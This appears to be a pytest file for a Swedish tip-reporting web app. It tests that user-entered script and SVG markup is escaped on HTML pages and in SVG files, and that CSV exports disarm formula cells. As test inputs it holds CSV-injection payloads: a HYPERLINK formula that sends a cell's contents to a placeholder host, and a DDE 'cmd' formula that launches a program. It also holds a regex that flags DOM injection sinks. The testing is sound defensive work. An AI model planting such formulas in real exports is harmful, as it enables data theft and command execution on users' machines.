"""Markup people type is stored as typed and shown back escaped wherever it is rendered.

A tip that quotes ``<script>`` is a legitimate tip: the JSON API returns it as the plain string
that was sent, the HTML pages (report, public follow-up, staff console) and the SVG files
escape it, and the report's CSV makes formula cells inert.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from tests.factories import (
    as_role,
    auth,
    login,
    login_as,
    make_org,
    make_participant,
    make_user,
    make_walk,
    observation_body,
    send_tip,
)
from tests.hostile.corpus import SCRIPT, SVG

TIP_TEXT = f"{SCRIPT} skrev någon på väggen vid skolan, och {SVG} på dörren."
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka här")',
    "+1+1 står det på skylten vid torget",
    "-2+3 och fler siffror på busskuren",
    "@SUM(A1:A9) klottrat på elskåpet",
    "=cmd|' /C calc'!A0 på väggen vid stationen",
)
RAW_MARKUP = ("<script>alert", "<svg onload", "<a xlink:href")


def assert_escaped(page: str, must_show: str = "&lt;script&gt;") -> None:
    for raw in RAW_MARKUP:
        assert raw not in page
    assert must_show in page


def published_report(app: Any, client: Any) -> tuple[dict[str, str], str, list[str]]:
    """Hostile tips queued into a report with hostile decisions, then published."""
    analyst = as_role(app, client, "analyst")
    references = [send_tip(client, text=TIP_TEXT, place=SVG).get_json()["reference"]]
    for formula in FORMULAS:
        answer = send_tip(client, text=formula, place=formula[:60])
        references.append(answer.get_json()["reference"])
    for reference in references:
        queued = client.post(f"/api/v1/queue/{reference}/queue", json={}, headers=analyst)
        assert queued.status_code == 200, queued.get_json()
    # Marked notable, so the report prints its text (the notable list is the one that does).
    marked = client.patch(f"/api/v1/queue/{references[0]}", json={"notable": True}, headers=analyst)
    assert marked.status_code == 200, marked.get_json()
    report = client.get("/api/v1/reports/next", query_string={"area": "gislaved"}, headers=analyst)
    report_id = report.get_json()["report"]["id"]
    decided = client.patch(
        f"/api/v1/reports/{report_id}", json={"decisions": SCRIPT}, headers=analyst
    )
    assert decided.status_code == 200, decided.get_json()
    published = client.post(f"/api/v1/reports/{report_id}/publish", headers=analyst)
    assert published.status_code == 200, published.get_json()
    return analyst, report_id, references


def test_tip_with_markup_comes_back_from_the_api_as_the_plain_text_sent(app, client) -> None:
    analyst = as_role(app, client, "analyst")
    reference = send_tip(client, text=TIP_TEXT, place=SVG).get_json()["reference"]

    item = client.get(f"/api/v1/queue/{reference}", headers=analyst).get_json()

    assert item["text"] == TIP_TEXT
    assert item["place"] == SVG


def test_report_page_shows_hostile_text_escaped(app, client) -> None:
    analyst, report_id, _ = published_report(app, client)

    page = client.get(f"/reports/{report_id}.html", headers=analyst)

    assert page.status_code == 200
    assert_escaped(page.get_data(as_text=True))


def test_report_csv_makes_every_formula_cell_inert(app, client) -> None:
    analyst, report_id, references = published_report(app, client)

    answer = client.get(f"/api/v1/reports/{report_id}/items.csv", headers=analyst)

    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert {row[0] for row in rows[2:]} == set(references)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    texts = [row[-1] for row in rows[2:]]
    assert "'" + FORMULAS[0] in texts  # shown, as text, with the quote that disarms it


def test_public_page_shows_hostile_statements_and_organisations_escaped(app, client) -> None:
    analyst = as_role(app, client, "analyst")
    org = make_org(app, name=f"Bostäder {SVG}", kind="partner")
    action = client.post(
        "/api/v1/actions",
        json={"title": f"Röj {SCRIPT}", "owner": org.id, "area": "gislaved"},
        headers=analyst,
    )
    assert action.status_code == 201, action.get_json()
    statement = client.post(
        "/api/v1/public/statements",
        json={"area": "gislaved", "title": SCRIPT, "body": SVG},
        headers=analyst,
    )
    assert statement.status_code == 201, statement.get_json()

    page = client.get("/followup/gislaved").get_data(as_text=True)
    api = client.get("/api/v1/public/followup", query_string={"area": "gislaved"}).get_json()

    assert_escaped(page)
    assert "&lt;svg onload=" in page
    assert api["statements"][0]["title"] == SCRIPT
    assert api["statements"][0]["body"] == SVG


def test_walk_map_and_poster_code_escape_hostile_titles_and_places(app, client) -> None:
    organiser = make_user(app, "analyst", areas=("gislaved",))
    walk = make_walk(app, organiser=organiser, title=f"Vandring {SCRIPT}")
    participant = make_participant(app, walk)
    observed = client.post(
        f"/api/v1/walks/{walk.id}/observations",
        json=observation_body(place=SVG, text=TIP_TEXT),
        headers=participant,
    )
    assert observed.status_code == 201, observed.get_json()
    staff = login_as(client, organiser)

    for path in (f"/api/v1/walks/{walk.id}/map.svg", f"/api/v1/walks/{walk.id}/qr.svg"):
        svg = client.get(path, headers=staff)
        assert svg.status_code == 200
        assert_escaped(svg.get_data(as_text=True))


def test_staff_console_shows_a_hostile_display_name_escaped(app, client) -> None:
    user = make_user(app, "analyst", display_name=f"Anna {SCRIPT}")
    token = login(client, user.email, user.password)
    client.set_cookie("tipsapp_staff", token)

    for path in ("/staff", "/staff/report"):
        page = client.get(path)
        assert page.status_code == 200
        assert_escaped(page.get_data(as_text=True))


def test_resident_reads_a_staff_message_with_markup_as_plain_text(app, client) -> None:
    analyst = as_role(app, client, "analyst")
    tip = send_tip(client).get_json()
    written = client.post(
        f"/api/v1/queue/{tip['reference']}/messages", json={"body": SCRIPT}, headers=analyst
    )
    assert written.status_code == 201, written.get_json()

    status = client.post(
        "/api/v1/tips/status", json={"reference": tip["reference"], "receipt": tip["receipt"]}
    ).get_json()

    assert [message["body"] for message in status["messages"]] == [SCRIPT]


def test_page_scripts_never_turn_strings_into_html(app) -> None:
    """The pages' scripts build every element with textContent, so stored text stays text."""
    from pathlib import Path

    static = Path(app.static_folder or "")
    sinks = re.compile(r"\.(innerHTML|outerHTML|insertAdjacentHTML)\b|document\.write|eval\(")
    offenders = {
        str(path.relative_to(static)): sinks.findall(path.read_text())
        for path in static.rglob("*.js")
        if sinks.search(path.read_text())
    }
    assert offenders == {}
    assert list(static.rglob("*.js")), "no scripts found: the check proves nothing"


def test_bearer_helper_is_the_api_login(app, client) -> None:
    user = make_user(app, "analyst")
    assert (
        client.get("/api/v1/staff/me", headers=auth(login(client, user.email))).status_code == 200
    )
